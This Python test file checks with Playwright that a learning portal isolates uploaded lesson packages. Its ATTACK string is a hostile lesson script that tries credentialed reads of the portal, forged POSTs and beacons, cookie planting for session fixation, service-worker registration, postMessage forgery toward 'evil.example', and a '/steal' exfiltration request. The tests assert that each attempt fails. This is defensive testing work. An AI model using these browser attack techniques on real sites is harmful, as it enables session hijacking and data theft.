"""A hostile package in a real browser: every way it tries to reach the portal, and that none leads there."""

import json

import pytest
from playwright.sync_api import Browser, Error, Page
from sqlalchemy import select

from lms.kernel.db import db
from lms.kernel.uow import unit_of_work
from lms.notifications import facade as notifications
from lms.notifications.models import NoticeRow
from lms.notifications.values import NoticeGroup, NoticeKind
from lms.packages.models import TrackingRow
from tests.packages.packages import course_with, enrol, package
from tests.support.guests import house

ATTACK = """<!doctype html><title>Hostile</title><p>A lesson like any other.</p><script>
const portal = PORTAL;
const results = {};
const attempt = async (name, deed) => {
  try { results[name] = String(await deed()); } catch (error) { results[name] = `refused: ${error.name}`; }
};
(async () => {
  await attempt("read the portal's page", async () => (await fetch(`${portal}/notifications`, { credentials: "include" })).text());
  await attempt("read it without cors", async () => (await (await fetch(`${portal}/notifications`, { mode: "no-cors", credentials: "include" })).text()).length);
  await attempt("send a form without cors", async () => { await fetch(`${portal}/notifications/read`, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ a: "b" }) }); return "sent"; });
  await attempt("send a beacon", async () => navigator.sendBeacon(`${portal}/notifications/read`, "x"));
  await attempt("load it as a picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("loaded"); i.onerror = () => no(new Error()); i.src = `${portal}/notifications`; }));
  await attempt("load it as a script", () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = () => yes("loaded"); s.onerror = () => no(new Error()); s.src = `${portal}/notifications`; document.head.append(s); }));
  await attempt("submit a form", async () => { const f = document.createElement("form"); f.method = "post"; f.action = `${portal}/notifications/read`; f.target = "hole"; const i = document.createElement("iframe"); i.name = "hole"; document.body.append(i, f); f.submit(); await new Promise((r) => setTimeout(r, 400)); return "tried"; });
  await attempt("read the portal's cookie", async () => document.cookie.includes("guildhall=") ? "seen" : "unseen");
  await attempt("plant a cookie by path", async () => { document.cookie = "guildhall=planted; path=/notifications"; return "tried"; });
  await attempt("plant a cookie by domain", async () => { document.cookie = `guildhall=planted; domain=${new URL(portal).hostname}; path=/notifications`; return "tried"; });
  await attempt("register a worker", async () => { await navigator.serviceWorker.register("sw.js"); return "registered"; });
  await attempt("register a worker at the root", async () => { await navigator.serviceWorker.register("/sw.js", { scope: "/" }); return "registered"; });
  await attempt("frame the portal", () => new Promise((yes, no) => { const i = document.createElement("iframe"); i.src = `${portal}/notifications`; i.onload = () => { try { yes(i.contentDocument ? "inside" : "no document"); } catch (e) { no(e); } }; document.body.append(i); setTimeout(() => yes("nothing loaded"), 1500); }));
  await attempt("read the page above", async () => parent.parent.document.title);
  await attempt("walk the top away", async () => { window.top.location = "about:blank"; return "tried"; });
  await attempt("open a window", async () => window.open(`${portal}/`) === null ? "refused" : "opened");
  await attempt("forge messages", async () => {
    for (const target of [parent, parent.parent, window.top]) {
      target.postMessage("guildhall:ready", "*");
      target.postMessage({ type: "commit", last: true, elements: { "cmi.core.lesson_status": "passed" } }, "*");
      target.postMessage({ type: "guildhall:begin", href: "https://evil.example/" }, "*");
    }
    await new Promise((r) => setTimeout(r, 400));
    return "tried";
  });
  await attempt("commit through the API what is no element", async () => {
    let api = window; while (!api.API && api.parent !== api) api = api.parent;
    api.API.LMSInitialize("");
    return api.API.LMSSetValue("cmi.core.student_id", "somebody else") + api.API.LMSSetValue("window.location", "x");
  });
  await attempt("talk to a stranger", async () => { await fetch("http://127.0.0.1:1/steal?" + results); return "sent"; });
  window.results = results;
})();
</script>"""

SENT = NoticeKind(
    key="tests.sent",
    subject="A secret for Amara",
    body="",
    icon="bell",
    state="valid",
    group=NoticeGroup.LEARNING,
    by_mail=False,
)


@pytest.fixture(params=[False, True], ids=["ports", "names"])
def attacked(request, tmp_path, chromium: Browser):
    """Return a house in which Amara has opened a hostile package, and her page once the package has tried all."""
    with house(tmp_path, by_name=request.param) as running:
        lie = {
            "index.html": ATTACK.replace("PORTAL", json.dumps(running.origin)),
            "sw.js": "onfetch = () => {}",
        }
        running.app.extensions["lms.notices.kinds"] = {SENT.key: SENT}
        with unit_of_work():
            activity = course_with(package(lie))
            enrol(running.cast.amara, activity)
            notifications.notify(SENT, to=[running.cast.amara], values={}, url="/")
        context = running.browser_of(chromium, running.cast.amara)
        page = context.new_page()
        page.goto(f"/learn/packages/{activity.id}")
        lesson = _lesson_frame(page)
        lesson.wait_for_function("window.results !== undefined", timeout=30_000)
        yield running, context, page, lesson.evaluate("window.results")
        context.close()


def _lesson_frame(page: Page):
    for _ in range(100):
        found = next((one for one in page.frames if one.url.endswith("/index.html")), None)
        if found:
            return found
        page.wait_for_timeout(100)
    raise AssertionError([one.url for one in page.frames])


def test_a_hostile_package_reads_nothing_sends_nothing_and_stays_where_it_is(attacked):
    running, context, page, results = attacked
    for way in (
        "read the portal's page",
        "read it without cors",
        "load it as a picture",
        "load it as a script",
        "register a worker",
        "register a worker at the root",
        "read the page above",
        "talk to a stranger",
    ):
        assert results[way].startswith("refused"), (way, results[way])
    assert results["read the portal's cookie"] == "unseen"
    assert results["frame the portal"] in {"no document", "nothing loaded"} or results[
        "frame the portal"
    ].startswith("refused")
    assert results["open a window"] == "refused"
    assert results["commit through the API what is no element"] == "falsefalse"
    # It could try to send; the portal took nothing.
    with unit_of_work(read_only=True):
        assert db.session.scalars(select(NoticeRow.read_at)).all() == [None]
        assert [
            row.elements.get("cmi.core.lesson_status") for row in db.session.scalars(select(TrackingRow))
        ] in (
            [],
            [None],
            ["incomplete"],
            ["not attempted"],
        )
    assert page.url.startswith(running.origin)
    assert len(context.pages) == 1


def test_a_cookie_that_a_package_planted_signs_nobody_in_as_somebody_else(attacked):
    _running, _context, page, _results = attacked
    try:
        answer = page.goto("/notifications")
    except Error as error:
        raise AssertionError("the portal could not be opened any more") from error
    # The plant came with the request: it is refused, the plant is taken back, and the next try is Amara's own.
    assert answer is not None
    assert answer.status == 400
    assert "Two sign-ins came with this request" in page.content()
    page.reload()
    assert "Amara Osei" in page.content()
    page.goto("/account")
    assert "Amara Osei" in page.content()


def test_an_honest_package_is_played_saved_and_resumed(tmp_path, chromium: Browser):
    lesson = """<!doctype html><title>Honest</title><button id="on">Next page</button><output id="at"></output><script>
      let api = window; while (!api.API && api.parent !== api) api = api.parent; api = api.API;
      api.LMSInitialize("");
      let at = Number(api.LMSGetValue("cmi.core.lesson_location") || 1);
      const show = () => { document.getElementById("at").value = `page ${at}`; };
      document.getElementById("on").onclick = () => {
        at += 1; api.LMSSetValue("cmi.core.lesson_location", String(at)); api.LMSSetValue("cmi.suspend_data", "x".repeat(5000));
        if (at > 3) { api.LMSSetValue("cmi.core.score.raw", "90"); api.LMSSetValue("cmi.core.lesson_status", "passed"); }
        api.LMSCommit(""); show(); };
      show();
    </script>"""
    with house(tmp_path) as running:
        with unit_of_work():
            activity = course_with(package({"index.html": lesson}))
            enrol(running.cast.amara, activity)
        context = running.browser_of(chromium, running.cast.amara)
        page = context.new_page()
        page.goto(f"/learn/packages/{activity.id}")
        _lesson_frame(page).click("#on")
        page.get_by_text("Saved at").wait_for()
        page.goto("/notifications")
        page.goto(f"/learn/packages/{activity.id}")
        frame = _lesson_frame(page)
        frame.wait_for_function("document.getElementById('at').value === 'page 2'")
        # The network goes away while she works, and comes back: nothing is lost and she is told both times.
        context.set_offline(True)
        frame.click("#on")
        page.get_by_role("heading", name="Not saved yet").wait_for()
        context.set_offline(False)
        page.get_by_role("heading", name="Not saved yet").wait_for(state="hidden", timeout=20_000)
        frame.click("#on")
        page.locator("#package-saved .pill[data-state=valid]").wait_for()
        for _ in range(50):
            with unit_of_work(read_only=True):
                row = db.session.scalars(select(TrackingRow)).one()
                reached = (
                    row.elements.get("cmi.core.lesson_location"),
                    row.elements.get("cmi.core.lesson_status"),
                )
            if reached == ("4", "passed"):
                break
            page.wait_for_timeout(100)
        assert reached == ("4", "passed")
        context.close()
